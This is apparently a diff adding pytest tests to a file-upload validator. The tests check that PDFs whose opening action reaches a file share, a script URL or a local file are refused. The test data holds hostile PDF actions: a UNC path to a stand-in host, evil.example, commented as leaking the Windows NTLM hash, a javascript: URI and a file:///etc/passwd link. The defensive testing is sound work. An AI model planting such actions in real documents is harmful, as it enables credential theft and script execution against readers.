@@ -175,3 +175,29 @@ def test_a_png_with_a_page_appended_before_a_fake_end_is_refused():
         v.check_content(hostile, max_pixels=4_000_000)
     assert "appended after the end of the PNG" in caught.value.message
     assert v.check_content(png, max_pixels=4_000_000) == v.PNG
+
+
+def _pdf_opening(action: dict) -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(width=612, height=792)
+    entries = {NameObject(key): NameObject(value) if value.startswith("/") else TextStringObject(value)
+               for key, value in action.items()}
+    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(entries)
+    return _write(writer)
+
+
+@pytest.mark.parametrize("action", [
+    {"/S": "/GoToR", "/F": "\\\\evil.example\\share\\x.pdf"},  # Windows sends the NTLM hash to the share
+    {"/S": "/URI", "/URI": "javascript:alert(1)"},
+    {"/S": "/URI", "/URI": "file:///etc/passwd"},
+    {"/S": "/URI", "/URI": "\\\\evil.example\\share"},
+])
+def test_a_pdf_reaching_a_file_share_or_a_script_url_is_refused(action):
+    with pytest.raises(v._Refused) as caught:
+        v.check_content(_pdf_opening(action), max_pixels=4_000_000)
+    assert "scripts, launch actions or attached files" in caught.value.message
+
+
+def test_a_pdf_opening_a_web_page_passes():
+    assert v.check_content(_pdf_opening({"/S": "/URI", "/URI": "https://www.canada.ca/"}),
+                           max_pixels=4_000_000) == v.PDF
